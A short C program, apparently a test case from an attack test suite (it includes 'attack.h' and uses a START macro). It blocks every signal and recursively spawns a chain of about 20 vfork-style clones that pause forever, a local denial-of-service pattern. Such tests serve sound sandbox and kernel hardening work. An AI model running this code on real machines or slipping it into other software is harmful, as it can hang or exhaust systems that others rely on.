#include "attack.h"

static int depth;
static void deeper(void)
{
	sigset_t all;
	sigfillset(&all);
	sigprocmask(SIG_BLOCK, &all, 0);
	if (syscall(SYS_clone, CLONE_VM | CLONE_VFORK | SIGCHLD, 0, 0, 0, 0) == 0) {
		if (++depth < 20)
			deeper();
		for (;;)
			pause();
	}
	for (;;)
		pause();
}
int main(void)
{
	START;
	deeper();
}
